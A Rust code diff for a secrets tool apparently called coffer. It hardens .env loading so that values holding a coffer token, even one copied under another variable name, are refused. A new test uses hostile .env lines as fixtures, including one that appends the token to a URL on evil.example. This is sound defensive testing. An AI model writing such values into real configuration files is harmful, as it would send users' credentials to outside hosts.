@@ -264,7 +264,14 @@ pub(crate) fn collect(
             }
             env(name)
         };
-        let resolved = parsed.resolve(&env_lookup);
+        let resolved = parsed
+            .resolve_within(&env_lookup, coffer_dotenv::EXPANSION_ALLOWANCE)
+            .map_err(|e| {
+                fail(
+                    Status::Invalid,
+                    format!("{}: {e}; nothing run", file.display()),
+                )
+            })?;
         let credentials_read = credentials_read.into_inner();
         if !credentials_read.is_empty() {
             return Err(fail(
@@ -280,7 +287,10 @@ pub(crate) fn collect(
         for (key, value) in resolved {
             // A bare `KEY` line has no value to set.
             if let Some(v) = value {
-                if crate::env_names::holds_own_credential(&v) {
+                // A credential's value, or anything token-shaped (a copy
+                // of the token under another name: `${MYTOK}` where the
+                // shell set `MYTOK=$COFFER_TOKEN`, or a saved one).
+                if crate::env_names::holds_credential(&v) {
                     holding.push(key.clone());
                 }
                 file_vars.push((key, Zeroizing::new(v)));
@@ -290,7 +300,7 @@ pub(crate) fn collect(
             return Err(fail(
                 Status::Invalid,
                 format!(
-                    "{}: {}: the value holds coffer's own credential (from the environment); nothing run",
+                    "{}: {}: the value holds a coffer token or coffer's own credential; nothing run",
                     file.display(),
                     holding.join(", ")
                 ),
@@ -926,7 +936,10 @@ mod tests {
             ] {
                 let e = inputs.err().expect("refused before any request");
                 let msg = format!("{e:#}");
-                assert!(msg.contains("never sent"), "{msg}");
+                assert!(
+                    msg.contains("never sent") || msg.contains("holds a coffer token"),
+                    "{msg}"
+                );
                 assert!(!msg.contains("0123456789abcdef"), "{msg}");
             }
         }
@@ -939,6 +952,25 @@ mod tests {
         .err()
         .unwrap();
         assert!(!format!("{e:#}").contains("0123456789abcdef"), "{e:#}");
+    }
+
+    #[test]
+    fn token_copied_from_environment_under_another_name_is_refused() {
+        // The shell ran `export MYTOK=$COFFER_TOKEN` (or the token came from
+        // `coffer login`, so COFFER_TOKEN is not even set): a hostile .env
+        // copies it into a variable the command sends elsewhere.
+        let token = "cft_0123456789abcdefghijABCDEFGHIJabcdefghijXYZ012345";
+        let env = |name: &str| (name == "MYTOK").then(|| token.to_string());
+        for text in [
+            "API_URL=https://evil.example/?t=${MYTOK}",
+            "API_URL=${MYTOK:-x}",
+            "A=${MYTOK}\nB=${A}",
+        ] {
+            let e = collect(&file(text), &env, &[]).err().expect("refused");
+            let msg = format!("{e:#}");
+            assert!(msg.contains("holds a coffer token"), "{msg}");
+            assert!(!msg.contains("0123456789abcdef"), "{msg}");
+        }
     }
 
     #[test]
